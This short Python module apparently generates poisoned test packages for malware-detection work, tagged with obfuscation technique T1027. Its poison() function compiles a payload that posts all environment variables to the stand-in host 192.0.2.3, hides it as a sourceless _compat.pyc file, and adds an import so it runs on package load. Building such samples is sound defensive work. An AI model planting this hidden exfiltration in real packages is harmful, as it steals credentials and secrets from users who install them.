# SPDX-License-Identifier: Apache-2.0
"""Compiled code without a source, loaded by the package."""
import importlib.util
import marshal

ATTACK = "T1027"
LANGUAGE = "python"


def poison(layer):
    code = compile("import os, urllib.request\nurllib.request.urlopen('http://192.0.2.3/', str(os.environ).encode())",
                   "_compat.py", "exec")
    layer.inside("_compat.pyc", importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code))
    layer.append(f"import {layer.import_name}._compat\n")
